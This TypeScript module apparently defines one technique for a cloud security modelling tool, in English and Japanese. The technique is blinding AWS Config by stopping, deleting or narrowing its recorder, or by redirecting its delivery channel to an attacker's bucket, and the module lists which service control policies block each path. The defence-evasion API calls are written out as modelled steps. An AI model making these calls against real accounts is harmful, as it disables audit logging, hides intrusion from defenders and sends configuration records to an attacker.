import type { Resource } from '../model/resource.ts';
import { technique } from '../model/technique.ts';
import { ATTACKERS_BUCKET } from './parts/attackers-bucket.ts';
import { byAccount } from './parts/by-account.ts';
import { resourcesOf } from './parts/resources.ts';
import { singleCall } from './parts/single-call.ts';

export default technique<Resource>({
  id: 'config-recorder-stop',
  title: {
    en: 'Stop, narrow or delete the AWS Config recorder, or redirect what it delivers',
    ja: 'AWS Config の設定レコーダーを停止、縮小、削除する、または配信先を変える',
  },
  goal: 'deafen',
  mitre: ['T1685'],
  why: {
    en: 'AWS Config notes every change of trails, buckets and keys, and its rules raise alarms. A recorder that stands still, or passes over those types, notes none of it.',
    ja: 'AWS Config は証跡、バケット、キーの変更をすべて記録し、ルールが警告を上げます。レコーダーが停止するか、それらのタイプを対象から外すと、何も記録されません。',
  },
  sources: [
    'https://docs.aws.amazon.com/config/latest/APIReference/API_StopConfigurationRecorder.html',
    'https://docs.aws.amazon.com/config/latest/APIReference/API_DeleteConfigurationRecorder.html',
    'https://docs.aws.amazon.com/config/latest/APIReference/API_PutConfigurationRecorder.html',
    'https://docs.aws.amazon.com/config/latest/APIReference/API_PutDeliveryChannel.html',
  ],
  by: ['owner'],
  blockedBy: {
    en: 'A service control policy that denies config:StopConfigurationRecorder, config:DeleteConfigurationRecorder and config:PutConfigurationRecorder on the recorder, and config:PutDeliveryChannel on *.',
    ja: 'レコーダーに対する config:StopConfigurationRecorder、config:DeleteConfigurationRecorder、config:PutConfigurationRecorder と、* に対する config:PutDeliveryChannel を拒否するサービスコントロールポリシー (SCP)。',
  },
  notBlockedBy: {
    en: 'A deny of stopping and deleting alone: overwriting the recorder with fewer types, or its channel with another bucket, does as well. A resource control policy: AWS Config does not take part in them.',
    ja: '停止と削除だけの Deny（対象タイプを減らす上書きや、配信先バケットの変更でも同じです）。リソースコントロールポリシー (RCP)（AWS Config は対象外です）。',
  },
  targets: (snapshot) => resourcesOf(snapshot, 'AWS::Config::ConfigurationRecorder'),
  ways: ({ arn, name, accountId, region }) => [
    [singleCall('config:StopConfigurationRecorder', arn, { ConfigurationRecorderName: name })],
    [singleCall('config:DeleteConfigurationRecorder', arn, { ConfigurationRecorderName: name })],
    [
      singleCall('config:PutConfigurationRecorder', arn, {
        ConfigurationRecorder: {
          name,
          recordingGroup: { allSupported: false, resourceTypes: ['AWS::EC2::EIP'] },
        },
      }),
    ],
    [
      singleCall(
        'config:PutDeliveryChannel',
        '*',
        { DeliveryChannel: { name: 'default', s3BucketName: ATTACKERS_BUCKET } },
        { region, ...byAccount(accountId) },
      ),
    ],
  ],
  harm: { en: 'changes are no longer recorded', ja: '構成変更が記録されない' },
});
